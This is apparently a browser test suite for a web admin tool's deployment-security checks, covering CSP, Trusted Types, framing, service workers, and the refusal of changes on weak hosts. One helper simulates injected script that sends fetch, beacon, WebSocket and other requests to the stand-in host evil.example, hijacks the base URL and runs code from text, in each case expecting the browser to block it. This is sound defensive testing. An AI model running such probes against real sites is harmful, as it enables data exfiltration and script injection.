// The page looks at how it is hosted, says so in its settings, and makes no changes where its policy is not in force.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { copyOfPage } from "../support/other-host.js";
import { assure, openIdentity, press, reviewTheSet, says } from "../support/steps.js";
import { openChromium, openTenant, people, signIn } from "../support/tenant.js";
import { eventually } from "../support/waiting.js";

const SECTION = 'section[aria-label="Deployment security"]';

/** Starts a tenant that serves a folder, and a browser that reaches it. */
async function open(t, folder) {
  const tenant = await openTenant({ page: folder });
  const browser = await openChromium(tenant);
  t.after(async () => {
    await browser.close();
    tenant.close();
  });
  return { tenant, page: await browser.newPage() };
}

/** What the settings say of each check. Runs in a page or in one of its frames. */
async function outcomes(frame) {
  await frame.waitForSelector(`${SECTION} tbody tr`);
  return frame.evaluate((section) => {
    const rows = [...document.querySelectorAll(`${section} tbody tr`)];
    return Object.fromEntries(rows.map((row) => [row.children[0].innerText, row.children[1].innerText]));
  }, SECTION);
}

const allGood = {
  "HTTPS": "Good",
  "Script integrity (CSP)": "Good",
  "Trusted Types": "Good",
  "Not in a frame": "Good",
  "No service worker": "Good",
  "Cross-origin isolation": "Good",
};

test("a page that is hosted as released says so", async (t) => {
  const { tenant, page } = await open(t);
  await page.goto(`${tenant.page}#/settings`);
  assert.deepEqual(await outcomes(page), allGood);
  await says(page, "All checks passed.");
  assert.deepEqual(tenant.violations, [], "its own two attempts are not counted as attacks");
});

test("what the policy forbids is refused by the browser: script from text, other hosts, frames, forms, workers", async (t) => {
  const { tenant, page } = await open(t);
  await page.goto(tenant.page);
  await page.waitForSelector("main h1");
  const ran = await page.evaluate(attempts);
  assert.deepEqual(ran, [], "these were possible");
  await eventually(() => tenant.violations.length > 0, "attempts are reported");
  assert.deepEqual(await tenant.deniedToPages(), [], "nothing left the browser");
});

/** Everything that injected script would try next. Returns the names of what was possible. Runs in the page. */
async function attempts() {
  const possible = [];
  const attempt = async (name, act) => {
    try {
      if (await act()) possible.push(name);
    } catch {
      // Refused, as it should be.
    }
  };
  const loads = (element, address) =>
    new Promise((resolve) => {
      element.onload = () => resolve(true);
      element.onerror = () => resolve(false);
      setTimeout(() => resolve(false), 1000);
      Object.assign(element, address);
      document.body.append(element);
    });
  const create = (name) => document.createElement(name);
  await attempt("import of data:", () => import("data:text/javascript,export default 1").then(() => true));
  await attempt("import of blob:", () => import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))).then(() => true));
  await attempt("inline script", () => {
    const script = create("script");
    script.text = "globalThis.wasRun = true";
    document.body.append(script);
    return globalThis.wasRun;
  });
  await attempt("script of the host that is not released", () => loads(create("script"), { src: "./config.json" }));
  await attempt("script of another host", () => loads(create("script"), { src: "https://evil.example/x.js" }));
  await attempt("Function", () => new Function("return true")());
  await attempt("setTimeout of text", () => setTimeout("globalThis.wasRun = true") && new Promise((r) => setTimeout(() => r(globalThis.wasRun), 50)));
  await attempt("markup", () => ((document.createElement("p").innerHTML = "<b>x</b>"), true));
  await attempt("a Trusted Types policy", () => Boolean(trustedTypes.createPolicy("default", { createHTML: (text) => text })));
  await attempt("fetch", () => fetch("https://evil.example/", { mode: "no-cors" }).then(() => true));
  await attempt("beacon", () => navigator.sendBeacon("https://evil.example/", "x") && false);
  await attempt("WebSocket", () => new Promise((resolve) => {
    const socket = new WebSocket("wss://evil.example/");
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }));
  await attempt("EventSource", () => new Promise((resolve) => {
    const source = new EventSource("https://evil.example/");
    source.onopen = () => resolve(true);
    source.onerror = () => resolve(false);
  }));
  await attempt("image", () => loads(new Image(), { src: "https://evil.example/x.png" }));
  await attempt("style sheet", () => loads(create("link"), { rel: "stylesheet", href: "https://evil.example/x.css" }));
  await attempt("inline style", () => {
    const style = create("style");
    style.textContent = "body { color: rgb(1, 2, 3) }";
    document.head.append(style);
    return getComputedStyle(document.body).color === "rgb(1, 2, 3)";
  });
  await attempt("prefetch", () => loads(create("link"), { rel: "prefetch", href: "https://evil.example/x" }));
  await attempt("frame", () => {
    const frame = create("iframe");
    frame.src = "./redirect.html";
    document.body.append(frame);
    return new Promise((resolve) => setTimeout(() => resolve(frame.contentDocument?.getElementById("state") ?? false), 500));
  });
  await attempt("object", () => loads(create("object"), { data: "./icon.svg" }));
  await attempt("base", () => {
    const base = create("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    return document.baseURI.startsWith("https://evil.example");
  });
  await attempt("worker", () => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve(true);
    worker.onerror = () => resolve(false);
  }));
  return possible;
}

test("where the policy is not in force, changes are refused without asking for a sign-in", async (t) => {
  const { tenant, page } = await open(t, await copyOfPage(t, { headers: false, policy: false }));
  await page.goto(tenant.page);
  await press(page, "Sign in with Microsoft");
  await signIn(page, people.administrator);
  await openIdentity(page, "LazyAutomationAccount");
  await reviewTheSet(page);
  let opened = false;
  page.once("popup", () => (opened = true));
  await assure(page, "LazyAutomationAccount");
  await press(page, "Apply 9 changes");
  await says(page, "Changes are disabled on this deployment. The browser runs text as a script");
  assert.equal(opened, false, "no window was opened");
  assert.deepEqual(await tenant.read("/ledger"), []);
  await page.goto(`${tenant.page}#/settings`);
  assert.deepEqual(await outcomes(page), {
    ...allGood,
    "Script integrity (CSP)": "Not safe",
    "Trusted Types": "Not safe",
    "Cross-origin isolation": "Weak",
  });
});

test("a host without headers is reported, and a frame or a service worker on the origin prevents changes", async (t) => {
  const files = {
    "frame.html": "<!doctype html><iframe src='./#/settings' width=1000 height=1000></iframe>",
    "worker.js": "",
    "planted.html": "<!doctype html><script>navigator.serviceWorker.register('./worker.js')</script>",
  };
  const { tenant, page } = await open(t, await copyOfPage(t, { headers: false, files }));
  await page.goto(`${tenant.page}#/settings`);
  assert.deepEqual(await outcomes(page), { ...allGood, "Cross-origin isolation": "Weak" });
  await says(page, "This deployment is weaker than recommended.");

  await page.goto(`${tenant.page}frame.html`);
  const inner = await page.waitForFrame((frame) => frame.url().endsWith("#/settings"));
  assert.equal((await outcomes(inner))["Not in a frame"], "Not safe");

  await page.goto(`${tenant.page}planted.html`);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  await page.goto(`${tenant.page}#/settings`);
  assert.equal((await outcomes(page))["No service worker"], "Not safe");
});

test("with the shipped headers no site can frame the page, and no page of the origin can register a service worker", async (t) => {
  const files = {
    "frame.html": "<!doctype html><iframe src='./#/settings' width=1000 height=1000></iframe>",
    "worker.js": "",
  };
  const { tenant, page } = await open(t, await copyOfPage(t, { files }));
  await page.goto(`${tenant.page}frame.html`);
  assert.equal(await page.evaluate(() => document.querySelector("iframe").contentDocument?.getElementById("main") ?? null), null);
  const refused = await page.evaluate(() =>
    navigator.serviceWorker.register("./worker.js").then(
      () => false,
      () => true,
    ),
  );
  assert.ok(refused, "worker-src forbids it");
});
